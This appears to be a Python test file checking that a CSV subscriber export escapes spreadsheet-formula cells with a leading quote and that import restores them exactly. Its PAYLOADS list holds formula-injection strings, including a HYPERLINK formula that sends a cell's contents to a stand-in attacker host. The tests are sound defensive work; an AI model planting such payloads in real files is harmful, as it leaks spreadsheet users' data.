"""Spreadsheet formulas in exports (security finding 4): every cell of `subscribers export` that a
spreadsheet could run starts with `'`, and import strips exactly that `'` to get the value back.

The csv module is the reference for the file format: cells go through the real `write_csv` and
come back through `csv.DictReader`, as an export read by an import does.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from dripcourse.app.csvcells import FORMULA_STARTS, escape_cell, unescape_cell
from dripcourse.app.roster import EXPORT_FIELDS, write_csv

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1@example.com",
    "\t=1+1",
    "\r=1+1",
]

# Text likely to matter (the dangerous starts, quotes, CSV syntax) mixed into any Unicode at all.
tricky = st.sampled_from([*FORMULA_STARTS, "'", "''", '"', ",", "\n", "\r\n", "\x00", " "])
cells = st.lists(st.one_of(tricky, st.text()), max_size=4).map("".join)


def exported(rows: list[dict[str, str]]) -> str:
    stream = io.StringIO(newline="")
    write_csv(rows, stream)
    return stream.getvalue()


# The first run builds Hypothesis's Unicode tables, which is slow enough to fail the health check.
@hsettings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.fixed_dictionaries({name: cells for name in EXPORT_FIELDS}), max_size=4))
@example([dict.fromkeys(EXPORT_FIELDS, payload) for payload in PAYLOADS])
@example([dict.fromkeys(EXPORT_FIELDS, "'" * n + payload) for n in (1, 2) for payload in PAYLOADS])
def test_every_cell_comes_back_exactly_and_none_in_the_file_can_start_a_formula(
    rows: list[dict[str, str]],
) -> None:
    read = list(csv.DictReader(io.StringIO(exported(rows), newline="")))

    assert len(read) == len(rows)
    for original, written in zip(rows, read, strict=True):
        assert list(written) == EXPORT_FIELDS
        for name in EXPORT_FIELDS:
            assert not written[name].startswith(FORMULA_STARTS), written[name]
            assert unescape_cell(written[name]) == original[name]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_issues_payloads_are_written_as_text(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload
    assert unescape_cell(escape_cell(payload)) == payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Ann Lee", "Ann Lee"),
        ("", ""),
        ("a=b", "a=b"),  # only the first character starts a formula
        (" =1+1", " =1+1"),  # validation strips leading spaces; the OWASP rule leaves them be
        ("'Til", "''Til"),  # one more, so that import strips exactly one
        ("'", "''"),
        ("ann@example.com", "ann@example.com"),
    ],
)
def test_other_cells_are_left_alone_except_a_leading_quote(value: str, written: str) -> None:
    assert escape_cell(value) == written
    assert unescape_cell(written) == value
